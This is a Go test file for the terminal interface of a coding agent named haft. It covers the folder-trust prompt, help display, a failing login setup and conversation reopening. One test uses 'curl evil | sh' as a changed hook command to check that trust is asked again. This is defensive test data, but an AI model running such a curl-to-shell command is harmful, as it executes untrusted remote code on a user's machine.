package tui

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"

	"github.com/haftdev/haft/agent"
	"github.com/haftdev/haft/internal/front/card"
	"github.com/haftdev/haft/internal/guard/trust"
	"github.com/haftdev/haft/internal/world/workspace/patch"
	"github.com/haftdev/haft/model"
	"github.com/haftdev/haft/sched"
	"github.com/haftdev/haft/session"
	"github.com/haftdev/haft/tool"
)

// A deadSetup is a model that cannot be reached.
type deadSetup struct{ tried []map[string]string }

func (f *deadSetup) Needed(error) bool { return true }
func (f *deadSetup) Try(_ context.Context, env map[string]string) (string, error) {
	f.tried = append(f.tried, env)
	return "", errors.New("could not connect to " + env[serverURL] + ": connection refused. Check that the server runs and that the address is right, and try again")
}
func (f *deadSetup) Keep(map[string]string) error { return nil }

func TestTrustIsAskedOnce(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.talk.held = []trust.Item{{Kind: trust.Hook, Name: "format", Text: "gofmt -w ."}}
		asked := func(want bool) {
			t.Helper()
			b.type_("/new\r")
			b.pause(arming + frame)
			if got := strings.Contains(b.screen(), "This folder contains 1"); got != want {
				t.Fatalf("asked: %v, want %v:\n%s", got, want, b.screen())
			}
		}
		asked(true)
		b.type_("\t")
		b.pause(settling)
		b.type_("1\r")
		asked(false)
		b.talk.held[0].Text = "curl evil | sh" // it is another one now
		asked(true)
	})
}

func TestHelpStaysOnTheScreen(t *testing.T) {
	for _, typed := range []string{"/help\r", "/keys\r", "?"} {
		in(t, func(t *testing.T, b *bed) {
			b.type_(typed)
			b.sees("q closes")
			b.type_("q")
			b.sees("what should haft do?")
			if s := b.everything(); strings.Contains(s, "At the prompt") {
				t.Errorf("%q went into the scrollback:\n%s", typed, s)
			}
		})
	}
}

func TestAChangeIsInTheTranscriptOnce(t *testing.T) {
	change := []patch.Hunk{{Lines: []string{" a", "-old", "+new"}}}
	end := card.Ending{Hunks: change}
	for _, c := range []struct {
		result string
		want   int
	}{{"edited\n 1 a\n-2 old\n+2 new", 1}, {"edited", 1}} {
		got := fullCall(&sched.Outcome{Input: []byte("{}"), Result: tool.Text(c.result)}, end)
		if n := strings.Count(got, "new"); n != c.want {
			t.Errorf("%d times in\n%s", n, got)
		}
	}
}

// TestASetUpThatFails keeps what was typed, shows all of the error, and lets the user go back
// a step at a time.
func TestASetUpThatFails(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		setup := &deadSetup{}
		b.app.later(func() { b.app.opts.Setup = setup })
		b.type_("/login\r")
		b.type_("2\r")
		b.sees("enter continues · esc goes back")
		b.type_("http://nowhere/v1\rqwen3\r\r")
		b.sees("▸ Address: http://nowhere/v1▏", "the address is right, and")
		b.type_("\r")
		b.sees("▸ Model: qwen3▏")
		esc := func() { b.type_("\x1b"); b.pause(escapeDelay + 2*frame) }
		esc()
		b.sees("▸ Address: http://nowhere/v1▏")
		esc()
		b.sees("1 Claude, with an Anthropic API key")
		esc()
		b.sees("what should haft do?")
		if len(setup.tried) != 1 || setup.tried[0][serverModel] != "qwen3" {
			t.Errorf("tried %v", setup.tried)
		}
	})
}

// TestTrustEndsNoTurn answers the question about the folder while a turn, a command of the
// user's and a task in the background run: the conversation is opened again after all of
// them, and not before.
func TestTrustEndsNoTurn(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		b.tell(agent.TurnStarted{Model: "m", Mode: "default"})
		b.talk.held = []trust.Item{{Kind: trust.Hook, Name: "format", Text: "gofmt -w ."}}
		b.app.later(func() { b.app.askTrust(b.talk.held) })
		b.pause(arming + frame)
		b.type_("\t")
		b.pause(settling)
		b.type_("2")
		b.pause(settling)
		b.type_("\r")
		b.sees("Trusted. It takes effect when the running turn and background work have")
		opened := func(want int, when string) {
			t.Helper()
			if b.talk.closed != (want > 1) || len(b.opened) != want {
				t.Fatalf("%s: closed %v, opened %d times, want %d", when, b.talk.closed, len(b.opened), want)
			}
		}
		opened(1, "while the turn runs")
		b.tell(agent.TaskChanged{Task: agent.Task{ID: "b1", Status: "running", Background: true}})
		b.tell(agent.Result{})
		opened(1, "while a task runs")
		b.talk.past = []session.Entry{{UUID: "u1", Message: &session.Message{Role: model.User, Content: []model.Block{model.TextOf("said before")}}}}
		b.tell(agent.TaskChanged{Task: agent.Task{ID: "b1", Status: "completed", Background: true}})
		opened(2, "when all has ended")
		b.sees("The new settings are in use now.")
		if o := b.opened[1]; o.Resume != "5e55" || o.At != "u1" {
			t.Errorf("opened %+v", o)
		}
		if s := b.everything(); strings.Contains(s, "said before") {
			t.Errorf("what is on the screen was shown again:\n%s", s)
		}
	})
}

// TestAFailedOpeningIsNamed tells why there is no conversation, whatever the reason.
func TestAFailedOpeningIsNamed(t *testing.T) {
	in(t, func(t *testing.T, b *bed) {
		open := b.app.opts.Open
		b.app.later(func() {
			b.app.opts.Open = func(context.Context, Opening, Person) (*Talk, error) {
				return nil, errors.New("settings.json:3: the deny rule is invalid. Fix it")
			}
		})
		b.type_("/new\r")
		b.type_("do it\r")
		b.sees("Could not open a conversation. Your prompt is kept until that works.", "settings.json:3: the deny rule is invalid. Fix it")
		if s := b.everything(); strings.Contains(s, "No model") {
			t.Errorf("another reason:\n%s", s)
		}
		b.app.later(func() { b.app.opts.Open = open })
		b.type_("/new\r")
		if !slices.Equal(b.talk.sent, []string{"do it"}) {
			t.Errorf("sent %q", b.talk.sent)
		}
	})
}
